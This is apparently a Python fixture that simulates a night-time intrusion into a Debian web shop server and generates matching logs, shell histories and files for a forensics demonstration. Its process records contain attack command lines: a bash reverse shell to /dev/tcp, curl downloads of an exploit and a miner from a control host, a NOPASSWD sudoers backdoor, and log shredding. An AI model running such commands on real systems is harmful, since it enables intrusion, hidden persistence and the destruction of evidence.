"""What happened on the server of the demonstration case.

The shop runs on nginx, PHP and PostgreSQL. In the night of September 17, 2026 somebody
comes in through the shop, has a shell connect back, downloads a program that makes him
root, adds an account with a key, logs in with it, starts a miner under the name of a
thread of the kernel, and comes back to shred the logs of the web server. In the morning
the administrator finds the miner, kills it and halts the server.

Addresses and names are those that are set aside for documentation. There is nothing in
the files but what is told here: no exploit, no malware.
"""

import calendar
import datetime
import random
import struct
import time

from demonstration import server

HOSTNAME = "shop"

_ADMINISTRATOR_ADDRESS = "192.0.2.15"
_CONTROL_ADDRESS = "198.51.100.23"
_LOGIN_ADDRESS = "203.0.113.66"

_NO_ADDRESS = "0.0.0.0"

_INTERVAL = 600

_ROOT = (0, 0)
_SSHD = (103, 65534)
_WWW_DATA = (33, 33)
_ALICE = (1000, 1000)
_SUPPORT = (1001, 1001)

_KERNEL_THREADS = (
    "rcu_gp rcu_par_gp slub_flushwq netns kworker/0:0H-events_highpri mm_percpu_wq "
    "rcu_tasks_kthread rcu_tasks_rude_kthread rcu_tasks_trace_kthread ksoftirqd/0 "
    "rcu_preempt migration/0 cpuhp/0 cpuhp/1 migration/1 ksoftirqd/1 cpuhp/2 "
    "migration/2 ksoftirqd/2 cpuhp/3 migration/3 ksoftirqd/3 kdevtmpfs inet_frag_wq "
    "kauditd khungtaskd oom_reaper writeback kcompactd0 ksmd khugepaged kintegrityd "
    "kblockd blkcg_punt_bio tpm_dev_wq edac-poller devfreq_wq kswapd0 kthrotld "
    "acpi_thermal_pm mld ipv6_addrconf kstrp zswap-shrink kworker/u9:0 ata_sff "
    "scsi_eh_0 scsi_tmf_0 jbd2/vda1-8 ext4-rsv-conver"
).split()

# Name, command line, unit, user and other values of what is started with the system.
_SERVICES = (
    (
        "systemd-journal",
        "/lib/systemd/systemd-journald",
        "systemd-journald",
        _ROOT,
        {"cpu": 0.0005, "resident_size": 21400, "write_rate": 150},
    ),
    (
        "systemd-udevd",
        "/lib/systemd/systemd-udevd",
        "systemd-udevd",
        _ROOT,
        {"resident_size": 6100},
    ),
    (
        "systemd-timesyn",
        "/lib/systemd/systemd-timesyncd",
        "systemd-timesyncd",
        (997, 997),
        {"cpu": 0.0001, "number_of_threads": 2},
    ),
    (
        "dbus-daemon",
        "/usr/bin/dbus-daemon --system --address=systemd: --nofork --nopidfile "
        "--systemd-activation --syslog-only",
        "dbus",
        (100, 107),
        {"cpu": 0.0001},
    ),
    (
        "systemd-logind",
        "/lib/systemd/systemd-logind",
        "systemd-logind",
        _ROOT,
        {"cpu": 0.0001},
    ),
    (
        "rsyslogd",
        "/usr/sbin/rsyslogd -n -iNONE",
        "rsyslog",
        _ROOT,
        {"cpu": 0.0004, "number_of_threads": 4, "write_rate": 120},
    ),
    ("cron", "/usr/sbin/cron -f", "cron", _ROOT, {"cpu": 0.0002}),
    ("atopacctd", "/usr/sbin/atopacctd", "atopacct", _ROOT, {"cpu": 0.0003}),
    (
        "sshd",
        "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
        "ssh",
        _ROOT,
        {"cpu": 0.0001, "resident_size": 9200},
    ),
    (
        "nginx",
        "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
        "nginx",
        _ROOT,
        {},
    ),
    (
        "php-fpm8.2",
        "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)",
        "php8.2-fpm",
        _ROOT,
        {"cpu": 0.0002, "resident_size": 31000},
    ),
    (
        "postgres",
        "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c "
        "config_file=/etc/postgresql/15/main/postgresql.conf",
        "postgresql@15-main",
        (106, 113),
        {"cpu": 0.0006, "resident_size": 29000},
    ),
)

# Of the keys that users log in with.
_FINGERPRINTS = {
    "alice": "pJ0yB1mUv9cQkq4h3yRrN2m8rCw1Zk7oXn5sT6uEaVg",
    "support": "Zq3nF8xk2LrVt0aYbWm6HsDc9eUj5iPo1gKw4TyQvRM",
}

_PASSWD = """\
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
messagebus:x:100:107::/nonexistent:/usr/sbin/nologin
sshd:x:103:65534::/run/sshd:/usr/sbin/nologin
postgres:x:106:113:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash
systemd-timesync:x:997:997:systemd Time Synchronization:/:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash
support:x:1001:1001::/home/support:/bin/bash
"""

_OS_RELEASE = """\
PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
HOME_URL="https://www.debian.org/"
"""

# Kinds of entries in the log of logins.
_UTMP_RUN_LEVEL = 1
_UTMP_BOOT = 2
_UTMP_USER = 7
_UTMP_DEAD = 8


class File:
    """File, directory or symbolic link in the image.

    Attributes:
      data (bytes): contents of a file, None for a directory or a symbolic link.
      mode (int): permissions.
      path (str): path without a leading slash.
      target (str): target of a symbolic link, None for a file or a directory.
      time (int): time of the last change in seconds since the Epoch.
      user (tuple[int, int]): identifiers of user and group.
    """

    def __init__(self, path, changed, data=None, mode=0o644, target=None, user=_ROOT):
        """Initializes a file.

        Args:
          path (str): path without a leading slash.
          changed (str|float): time of the last change, see GetTime.
          data (Optional[bytes]): contents of a file.
          mode (Optional[int]): permissions.
          target (Optional[str]): target of a symbolic link.
          user (Optional[tuple[int, int]]): identifiers of user and group.
        """
        super().__init__()
        self.data = data
        self.mode = mode
        self.path = path
        self.target = target
        self.time = int(GetTime(changed))
        self.user = user


def GetTime(value):
    """Determines a time.

    Args:
      value (str|float): time of the day of the case, such as "02:07:13.5", date and
          time, or seconds since the Epoch.

    Returns:
      float: time in seconds since the Epoch.
    """
    if not isinstance(value, str):
        return value

    if " " not in value:
        value = f"2026-09-17 {value:s}"
    value, _, fraction = value.partition(".")
    seconds = calendar.timegm(time.strptime(value, "%Y-%m-%d %H:%M:%S"))
    return seconds + float(f"0.{fraction or '0':s}")


class Story:
    """What happened on the server, and what it left there."""

    _HALTED = "09:31:24"

    def __init__(self):
        """Initializes a story."""
        super().__init__()
        self._histories = {}
        self._logins = []
        self._messages = []
        self._random = random.Random(17)
        self._server = server.Server(HOSTNAME, int(GetTime("2026-08-30 06:12:09")))

        self._cron = None
        self._init = None
        self._logind = None
        self._php = None
        self._sshd = None
        self._RunSystem()
        self._RunSchedule()
        self._RunFailedLogins()

        self._RunIntrusion()
        self._miner = self._RunLogin()
        self._RunCleanup()
        self._RunAdministrator()

        self._server.AssignPids(214803)
        for process in self._server.processes:
            process.command_line = self._SetMiner(process.command_line)

    def _AddCommands(self, username, *commands):
        """Adds commands to the history of a shell.

        Args:
          username (str): name of the user.
          commands (tuple[tuple[str, str], ...]): times and commands.
        """
        history = self._histories.setdefault(username, [])
        history.extend((GetTime(start), command) for start, command in commands)

    def _AddLogin(self, start, kind, process, username, terminal, address):
        """Adds an entry to the log of logins.

        Args:
          start (str|float): time.
          kind (int): kind of the entry.
          process (server.Process): process, None if there is none.
          username (str): name of the user.
          terminal (str): name of the terminal.
          address (str): address of the remote host.
        """
        self._logins.append(
            (GetTime(start), kind, process, username, terminal, address)
        )

    def _AddMessages(self, start, program, process, *messages):
        """Adds messages to the log of authentication.

        Args:
          start (str|float): time.
          program (str): name of the program.
          process (server.Process): process that logs, None where the log does not tell
              its identifier.
          messages (tuple[tuple[float, str], ...]): seconds after that time, and texts.
        """
        for seconds, text in messages:
            # The log tells microseconds.
            timestamp = GetTime(start) + seconds + self._random.randrange(1000) / 1e6
            self._messages.append((timestamp, program, process, text))

    def _Run(self, parent, name, command_line, start, end=None, **values):
        """Runs a process.

        Args:
          parent (server.Process): parent process.
          name (str): name.
          command_line (str): command line.
          start (str|float): time of the start.
          end (Optional[str|float]): time of the exit, None if it is still running.
          values (dict[str, object]): values of other attributes, see server.Process.

        Returns:
          server.Process: process.
        """
        if end is not None:
            values["end_time"] = GetTime(end)
        return self._server.Run(parent, name, command_line, GetTime(start), **values)

    def _RunBriefly(self, parent, command_line, start, seconds=0.1, **values):
        """Runs a process that exits soon.

        Args:
          parent (server.Process): parent process.
          command_line (str): command line.
          start (str|float): time of the start.
          seconds (Optional[float]): duration in seconds.
          values (dict[str, object]): values of other attributes, see server.Process.

        Returns:
          server.Process: process.
        """
        name = command_line.partition(" ")[0].rpartition("/")[2]
        start_time = GetTime(start)
        return self._Run(
            parent, name, command_line, start_time, start_time + seconds, **values
        )

    def _RunAdministrator(self):
        """Runs what the administrator does in the morning."""
        shell = self._RunLoginShell(
            "alice", _ALICE, _ADMINISTRATOR_ADDRESS, 50412, "pts/0", 431, "08:58:40"
        )
        self._AddCommands(
            "alice",
            ("2026-09-11 13:20:44", "sudo apt update"),
            ("2026-09-11 13:21:02", "sudo apt upgrade"),
            ("2026-09-15 08:02:31", "systemctl status php8.2-fpm"),
            ("08:58:47", "uptime"),
            ("08:58:55", "top"),
            ("09:07:02", "ps axjf"),
            ("09:12:20", "last -20"),
            ("09:14:33", "sudo kill -9 {miner}"),
            ("09:31:20", "sudo poweroff"),
        )
        self._RunBriefly(shell, "uptime", "08:58:47.1")
        self._Run(shell, "top", "top", "08:58:55.1", "09:06:48", cpu=0.004)
        self._RunBriefly(shell, "ps axjf", "09:07:02.1")
        self._RunBriefly(shell, "last -20", "09:12:20.1")
        self._RunSudo(
            shell, "alice", "pts/0", "kill -9 {miner}", "09:14:33.1", "09:14:33.4"
        )
        self._miner.end_time = GetTime("09:14:33.2")
        self._miner.status = 9
        self._RunSudo(shell, "alice", "pts/0", "/usr/sbin/poweroff", "09:31:20.1")

    def _RunCleanup(self):
        """Runs what the intruder does to hide."""
        shell = self._RunLoginShell(
            "support",
            _SUPPORT,
            _LOGIN_ADDRESS,
            51620,
            "pts/0",
            418,
            "03:41:12",
            "03:50:58",
        )
        script = (
            "rm -f /root/.bash_history; shred -u /var/log/nginx/access.log* "
            "/var/log/nginx/error.log; history -c"
        )
        self._AddCommands(
            "support",
            ("03:41:40", f'sudo bash -c "{script:s}"'),
            ("03:50:57", "exit"),
        )
        shell = self._RunSudo(
            shell, "support", "pts/0", f"bash -c {script:s}", "03:41:40.1", "03:50:41"
        )
        self._RunBriefly(shell, "rm -f /root/.bash_history", "03:41:41.1")
        self._Run(
            shell,
            "shred",
            "shred -u /var/log/nginx/access.log /var/log/nginx/access.log.1 "
            "/var/log/nginx/error.log",
            "03:41:41.3",
            "03:50:40.8",
            cpu=0.3,
            system=0.4,
            variation=0.1,
            write_rate=32 << 20,
        )

    def _RunDaemons(
        self, username, user, address, port, terminal, session, start, end=None
    ):
        """Runs the daemons of a login with ssh.

        Args:
          username (str): name of the user.
          user (tuple[int, int]): identifiers of user and group.
          address (str): address of the remote host.
          port (int): port of the remote host.
          terminal (str): name of the terminal.
          session (int): number of the session.
          start (str): time of the start.
          end (Optional[str]): time of the end, None if it is still open.

        Returns:
          tuple[server.Process, server.Process]: daemon with privileges and daemon of
              the user.
        """
        start_time = GetTime(start)
        end_time = GetTime(end) if end else None
        privileged = self._Run(
            self._sshd,
            "sshd",
            f"sshd: {username:s} [priv]",
            start_time,
            end_time,
            group=f"/user.slice/user-{user[0]:d}.slice/session-{session:d}.scope",
            resident_size=10900,
        )
        daemon = self._Run(
            privileged,
            "sshd",
            f"sshd: {username:s}@{terminal:s}",
            start_time + 0.9,
            end_time - 0.1 if end_time else None,
            resident_size=6900,
            user=user,
        )

        self._AddMessages(
            start_time,
            "sshd",
            privileged,
            (
                0.2,
                f"Accepted publickey for {username:s} from {address:s} port {port:d} "
                f"ssh2: ED25519 SHA256:{_FINGERPRINTS[username]:s}",
            ),
            (
                0.21,
                "pam_unix(sshd:session): session opened for user "
                f"{username:s}(uid={user[0]:d}) by (uid=0)",
            ),
        )
        self._AddMessages(
            start_time,
            "systemd-logind",
            self._logind,
            (0.23, f"New session {session:d} of user {username:s}."),
        )
        if end_time:
            self._AddMessages(
                end_time,
                "sshd",
                privileged,
                (
                    -0.02,
                    f"pam_unix(sshd:session): session closed for user {username:s}",
                ),
            )
            self._AddMessages(
                end_time,
                "systemd-logind",
                self._logind,
                (
                    0,
                    f"Session {session:d} logged out. Waiting for processes to exit.",
                ),
            )
        return privileged, daemon

    def _RunFailedLogins(self):
        """Runs what guesses passwords, as on every server."""
        start_time = GetTime("00:03:00")
        while start_time < GetTime(self._HALTED) - 3600:
            start_time += self._random.randrange(600, 2400)
            address = f"198.51.100.{self._random.randrange(100, 200):d}"
            username = self._random.choice(("admin", "git", "oracle", "test", "ubuntu"))
            port = self._random.randrange(32768, 60999)
            status = 255 << 8
            daemon = self._Run(
                self._sshd,
                "sshd",
                "sshd: unknown [priv]",
                start_time,
                start_time + 4.2,
                status=status,
            )
            self._Run(
                daemon,
                "sshd",
                "sshd: unknown [net]",
                start_time + 0.1,
                start_time + 4.1,
                status=status,
                user=_SSHD,
            )
            self._AddMessages(
                start_time,
                "sshd",
                daemon,
                (0.6, f"Invalid user {username:s} from {address:s} port {port:d}"),
                (
                    2.7,
                    f"Failed password for invalid user {username:s} from {address:s} "
                    f"port {port:d} ssh2",
                ),
                (
                    4.0,
                    f"Connection closed by invalid user {username:s} {address:s} port "
                    f"{port:d} [preauth]",
                ),
            )

    def _RunIntrusion(self):
        """Runs what the intruder does through the shop, until he has an account."""
        pool = self._php
        shell = self._RunBriefly(pool, "sh -c id", "02:07:13", 0.2)
        self._RunBriefly(shell, "id", "02:07:13.1", 0.05)

        # Port 8080 is blocked, which curl tells with this exit code.
        command_line = f"curl -m 5 http://{_CONTROL_ADDRESS:s}:8080/"
        status = 28 << 8
        shell = self._RunBriefly(
            pool, f"sh -c {command_line:s}", "02:07:58", 5.2, status=status
        )
        self._RunBriefly(shell, command_line, "02:07:58.1", 5, status=status)

        reverse = f"bash -i >& /dev/tcp/{_CONTROL_ADDRESS:s}/443 0>&1"
        shell = self._Run(
            pool, "sh", f"sh -c bash -c '{reverse:s}'", "02:08:20", "02:53:41.3"
        )
        shell = self._Run(
            shell, "bash", f"bash -c {reverse:s}", "02:08:20.1", "02:53:41.2"
        )
        shell = self._Run(shell, "bash", "bash -i", "02:08:20.2", "02:53:41.1")
        python = self._Run(
            shell,
            "python3",
            'python3 -c import pty; pty.spawn("/bin/bash")',
            "02:09:05",
            "02:53:40",
            resident_size=9800,
        )

        shell = self._Run(python, "bash", "/bin/bash", "02:09:05.2", "02:53:39.9")
        self._RunBriefly(shell, "mkdir /dev/shm/.x", "02:09:48")
        self._Run(
            shell,
            "curl",
            f"curl -fsSL http://{_CONTROL_ADDRESS:s}/l.tar -o /dev/shm/.x/l.tar",
            "02:09:55",
            "02:10:09.4",
            cpu=0.02,
            resident_size=12200,
        )
        self._RunBriefly(shell, "tar xf l.tar", "02:10:20", 0.4)
        self._RunBriefly(shell, "./lpe", "02:11:02", 1.1, status=11)

        # The second attempt takes longer, and succeeds.
        exploit = self._Run(
            shell, "lpe", "./lpe", "02:12:31", "02:53:20", cpu=0.03, resident_size=1800
        )
        exploit.changes.append(
            (
                GetTime("02:26:44"),
                {"command_line": "/bin/sh", "name": "sh", "user": _ROOT},
            )
        )
        useradd = self._RunBriefly(
            exploit,
            "useradd -m -s /bin/bash -G sudo support",
            "02:33:05",
            0.6,
            user=_ROOT,
        )
        self._AddMessages(
            "02:33:05",
            "useradd",
            useradd,
            (0.2, "new group: name=support, GID=1001"),
            (
                0.3,
                "new user: name=support, UID=1001, GID=1001, home=/home/support, "
                "shell=/bin/bash, from=/dev/pts/0",
            ),
            (0.4, "add 'support' to group 'sudo'"),
        )
        for command_line, start in (
            ("mkdir /home/support/.ssh", "02:33:31"),
            ("tee /home/support/.ssh/authorized_keys", "02:33:52"),
            ("tee /etc/sudoers.d/support", "02:34:40"),
        ):
            self._RunBriefly(exploit, command_line, start, user=_ROOT)

    def _RunJob(self, start_time, command_line, seconds, username, user):
        """Runs a job of cron.

        Args:
          start_time (float): time of the start in seconds since the Epoch.
          command_line (str): command line.
          seconds (float): duration in seconds.
          username (str): name of the user.
          user (tuple[int, int]): identifiers of user and group.
        """
        job = self._Run(
            self._cron,
            "cron",
            "/usr/sbin/CRON -f",
            start_time,
            start_time + seconds + 0.3,
        )
        shell = self._RunBriefly(
            job,
            f"/bin/sh -c {command_line:s}",
            start_time + 0.1,
            seconds + 0.1,
            user=user,
        )
        self._RunBriefly(
            shell, command_line, start_time + 0.15, seconds, cpu=0.2, variation=0.3
        )
        session = "pam_unix(cron:session): session"
        self._AddMessages(
            start_time,
            "CRON",
            job,
            (
                0.05,
                f"{session:s} opened for user {username:s}(uid={user[0]:d}) by (uid=0)",
            ),
            (seconds + 0.28, f"{session:s} closed for user {username:s}"),
        )

    def _RunLogin(self):
        """Runs what the intruder does with his account.

        Returns:
          server.Process: miner.
        """
        shell = self._RunLoginShell(
            "support",
            _SUPPORT,
            _LOGIN_ADDRESS,
            51514,
            "pts/1",
            417,
            "02:39:12",
            "02:52:19",
        )
        path = "/dev/shm/.s/kswapd0"
        commands = (
            ("02:39:41", "w"),
            ("02:40:52", "mkdir /dev/shm/.s"),
            ("02:41:10", f"curl -fsSL http://{_CONTROL_ADDRESS:s}/kswapd0 -o {path:s}"),
            ("02:41:31", f"chmod 755 {path:s}"),
        )
        for start, command_line in commands:
            self._RunBriefly(shell, command_line, GetTime(start) + 0.1)
        self._AddCommands(
            "support", *commands, ("02:42:02", "sudo -i"), ("02:52:18", "exit")
        )

        shell = self._RunSudo(shell, "support", "pts/1", "-i", "02:42:02.1", "02:52:16")
        miner = self._Run(
            shell,
            "kswapd0",
            f"{path:s} -o pool.example.net:443 --tls -t 1",
            "02:43:05",
            cpu=0.992,
            number_of_threads=4,
            resident_size=281000,
            system=0.01,
            variation=0.005,
        )
        self._Run(shell, "top", "top", "02:43:20", "02:51:12", cpu=0.004)
        return miner

    def _RunLoginShell(
        self, username, user, address, port, terminal, session, start, end=None
    ):
        """Runs a login with ssh and a terminal.

        Args:
          username (str): name of the user.
          user (tuple[int, int]): identifiers of user and group.
          address (str): address of the remote host.
          port (int): port of the remote host.
          terminal (str): name of the terminal.
          session (int): number of the session.
          start (str): time of the start.
          end (Optional[str]): time of the end, None if it is still open.

        Returns:
          server.Process: shell.
        """
        privileged, daemon = self._RunDaemons(
            username, user, address, port, terminal, session, start, end
        )
        self._AddLogin(
            daemon.start_time, _UTMP_USER, privileged, username, terminal, address
        )
        if end:
            self._AddLogin(
                daemon.end_time, _UTMP_DEAD, privileged, "", terminal, _NO_ADDRESS
            )
        return self._Run(
            daemon,
            "bash",
            "-bash",
            daemon.start_time + 0.1,
            daemon.end_time - 0.2 if end else None,
            resident_size=5100,
        )

    def _RunSchedule(self):
        """Runs what is scheduled."""
        end_time = GetTime(self._HALTED) - 60
        for start_time in range(int(GetTime("00:05:01")), int(end_time), 600):
            self._RunJob(
                start_time,
                "/usr/bin/php8.2 /var/www/shop/cron.php",
                2.1,
                "www-data",
                _WWW_DATA,
            )
        for start_time in range(int(GetTime("00:17:01")), int(end_time), 3600):
            self._RunJob(
                start_time, "run-parts --report /etc/cron.hourly", 0.1, "root", _ROOT
            )
        for start_time in range(int(GetTime("00:09:04")), int(end_time), 1800):
            cleaner = self._Run(
                self._init,
                "sessionclean",
                "/bin/sh -e /usr/lib/php/sessionclean",
                start_time,
                start_time + 1.1,
                group="/system.slice/phpsessionclean.service",
            )
            for index, name in enumerate(("sort", "phpquery", "find")):
                self._RunBriefly(cleaner, name, start_time + 0.1 + index / 4, 0.2)

    def _RunSudo(self, shell, username, terminal, command, start, end=None):
        """Runs a command with sudo, which has a second process for the terminal.

        Args:
          shell (server.Process): shell.
          username (str): name of the user.
          terminal (str): name of the terminal.
          command (str): command, "-i" for a shell.
          start (str): time of the start.
          end (Optional[str]): time of the end, None if it is still running.

        Returns:
          server.Process: process of the command.
        """
        start_time = GetTime(start)
        end_time = GetTime(end) if end else None
        process = shell
        for seconds in (0, 0.03):
            process = self._Run(
                process,
                "sudo",
                f"sudo {command:s}",
                start_time + seconds,
                end_time - seconds if end_time else None,
                user=_ROOT,
            )

        service = "sudo"
        name = command.partition(" ")[0].rpartition("/")[2]
        executable = command if command.startswith("/") else f"/usr/bin/{command:s}"
        if command == "-i":
            service, name, command, executable = "sudo-i", "bash", "-bash", "/bin/bash"
        process = self._Run(
            process,
            name,
            command,
            start_time + 0.05,
            end_time - 0.05 if end_time else None,
        )

        messages = [
            (
                0.01,
                f"{username:>8s} : TTY={terminal:s} ; PWD=/home/{username:s} ; "
                f"USER=root ; COMMAND={executable:s}",
            ),
            (
                0.02,
                f"pam_unix({service:s}:session): session opened for user root(uid=0) "
                f"by {username:s}(uid={shell.user[0]:d})",
            ),
        ]
        if end_time:
            messages.append(
                (
                    end_time - start_time,
                    f"pam_unix({service:s}:session): session closed for user root",
                )
            )
        self._AddMessages(start_time, "sudo", None, *messages)
        return process

    def _RunSystem(self):
        """Runs what is always there."""
        boot_time = self._server.boot_time
        self._init = self._Run(
            None,
            "systemd",
            "/sbin/init",
            boot_time,
            cpu=0.001,
            group="/init.scope",
            pid=1,
            resident_size=12600,
        )
        kthreadd = self._Run(None, "kthreadd", "", boot_time, pid=2)
        for pid, name in enumerate(_KERNEL_THREADS, 3):
            cpu = 0.0008 if name in ("rcu_preempt", "jbd2/vda1-8") else 0.0
            self._Run(kthreadd, name, "", boot_time, cpu=cpu, pid=pid)

        services = {}
        for pid, (name, command_line, unit, user, values) in zip(
            range(231, 800, 47), _SERVICES
        ):
            services[name] = self._Run(
                self._init,
                name,
                command_line,
                boot_time + 8,
                group=f"/system.slice/{unit:s}.service",
                pid=pid,
                user=user,
                **values,
            )
        self._cron = services["cron"]
        self._logind = services["systemd-logind"]
        self._sshd = services["sshd"]

        for pid in range(741, 745):
            self._Run(
                services["nginx"],
                "nginx",
                "nginx: worker process",
                boot_time + 9,
                cpu=0.006,
                pid=pid,
                resident_size=9100,
                user=_WWW_DATA,
                write_rate=3000,
            )
        for pid, title in enumerate(
            (
                "checkpointer ",
                "background writer ",
                "walwriter ",
                "autovacuum launcher ",
                "logical replication launcher ",
                "shop shop [local] idle",
                "shop shop [local] idle",
            ),
            803,
        ):
            self._Run(
                services["postgres"],
                "postgres",
                f"postgres: 15/main: {title:s}",
                boot_time + 10,
                cpu=0.012 if "idle" in title else 0.001,
                pid=pid,
                resident_size=21000,
                write_rate=4000,
            )

        # These are replaced after a number of requests.
        for pid in (198211, 198212, 201077, 204390):
            self._php = self._Run(
                services["php-fpm8.2"],
                "php-fpm8.2",
                "php-fpm: pool www",
                GetTime("2026-09-15 21:10:07") + (pid - 198211) * 14,
                cpu=0.03,
                pid=pid,
                resident_size=58000,
                user=_WWW_DATA,
            )

        # Started again at midnight, for the log of the day.
        self._Run(
            self._init,
            "atop",
            "/usr/bin/atop -w /var/log/atop/atop_20260917 600",
            "00:00:00.4",
            cpu=0.0015,
            group="/system.slice/atop.service",
            resident_size=11000,
            write_rate=40,
        )

    def _GetAtopLog(self):
        """Makes the log of atop, which makes a last sample when the server is halted.

        Returns:
          bytes: contents of the log.
        """
        halted = int(GetTime(self._HALTED))
        times = list(range(int(GetTime("00:00:01")), halted, _INTERVAL))
        return self._server.GetLog(times + [halted])

    def _GetAuthLog(self):
        """Makes the log of authentication.

        Returns:
          bytes: contents of the log.
        """
        lines = []
        for timestamp, program, process, text in sorted(
            self._messages, key=lambda message: message[0]
        ):
            date_time = datetime.datetime.fromtimestamp(
                timestamp, tz=datetime.timezone.utc
            )
            identifier = f"[{process.pid:d}]" if process else ""
            lines.append(
                f"{date_time.isoformat(timespec='microseconds'):s} {HOSTNAME:s} "
                f"{program:s}{identifier:s}: {self._SetMiner(text):s}\n"
            )
        return "".join(lines).encode("utf-8")

    def _GetHistory(self, username):
        """Makes the history of a shell.

        Args:
          username (str): name of the user.

        Returns:
          bytes: contents of the history.
        """
        return "".join(
            f"#{int(timestamp):d}\n{self._SetMiner(command):s}\n"
            for timestamp, command in self._histories[username]
        ).encode("utf-8")

    def _GetWtmp(self):
        """Makes the log of logins.

        Returns:
          bytes: contents of the log.
        """
        boot_time = self._server.boot_time
        halt_time = GetTime(self._HALTED)
        entries = [
            (boot_time, _UTMP_BOOT, None, "reboot", "~", _NO_ADDRESS),
            *sorted(self._logins, key=lambda login: login[0]),
            (halt_time - 2, _UTMP_RUN_LEVEL, None, "shutdown", "~", _NO_ADDRESS),
        ]
        data = []
        for timestamp, kind, process, username, terminal, address in entries:
            host = "" if kind == _UTMP_DEAD else address
            if not process:
                host = server.KERNEL_RELEASE
            data.append(
                struct.pack(
                    "<hxxi32s4s32s256shhiii4s32x",
                    kind,
                    process.pid if process else 0,
                    terminal.encode("ascii"),
                    terminal.encode("ascii")[-4:] if process else b"~~",
                    username.encode("ascii"),
                    host.encode("ascii"),
                    0,
                    0,
                    0,
                    *divmod(int(timestamp * 1000000), 1000000),
                    bytes(map(int, address.split("."))),
                )
            )
        return b"".join(data)

    def _SetMiner(self, text):
        """Sets the identifier of the miner in a text.

        Args:
          text (str): text.

        Returns:
          str: text.
        """
        return text.replace("{miner}", f"{self._miner.pid:d}")

    def GetFiles(self):
        """Makes the files that are left on the server.

        Returns:
          list[File]: files, directories before what is in them.
        """
        installed = "2026-03-02 10:14:00"
        added = "02:33:05"
        left = "03:50:58"
        halted = self._HALTED
        key = b"ssh-ed25519 AAAA" + b"example" * 8 + b" support\n"
        return [
            File("etc", added, mode=0o755),
            File("etc/hostname", installed, f"{HOSTNAME:s}\n".encode("ascii")),
            File("etc/localtime", installed, target="/usr/share/zoneinfo/Etc/UTC"),
            File("etc/os-release", installed, target="../usr/lib/os-release"),
            File("etc/passwd", added, _PASSWD.encode("ascii")),
            File("etc/sudoers.d", "02:34:40", mode=0o750),
            File(
                "etc/sudoers.d/support",
                "02:34:40",
                b"support ALL=(ALL) NOPASSWD:ALL\n",
            ),
            File("etc/timezone", installed, b"Etc/UTC\n"),
            File("home", added, mode=0o755),
            File("home/alice", installed, mode=0o750, user=_ALICE),
            File(
                "home/alice/.bash_history",
                halted,
                self._GetHistory("alice"),
                mode=0o600,
                user=_ALICE,
            ),
            File("home/support", left, mode=0o750, user=_SUPPORT),
            File(
                "home/support/.bash_history",
                left,
                self._GetHistory("support"),
                mode=0o600,
                user=_SUPPORT,
            ),
            File("home/support/.ssh", "02:33:52", mode=0o755),
            File("home/support/.ssh/authorized_keys", "02:33:52", key),
            File("root", "03:41:41", mode=0o700),
            File("usr", installed, mode=0o755),
            File("usr/lib", installed, mode=0o755),
            File("usr/lib/os-release", installed, _OS_RELEASE.encode("ascii")),
            File("var", installed, mode=0o755),
            File("var/log", "00:00:01", mode=0o755),
            File("var/log/atop", "00:00:01", mode=0o755),
            File("var/log/atop/atop_20260917", halted, self._GetAtopLog()),
            File("var/log/auth.log", halted, self._GetAuthLog(), mode=0o640),
            File("var/log/nginx", "03:50:40", mode=0o755),
            File("var/log/wtmp", halted, self._GetWtmp(), mode=0o664),
        ]
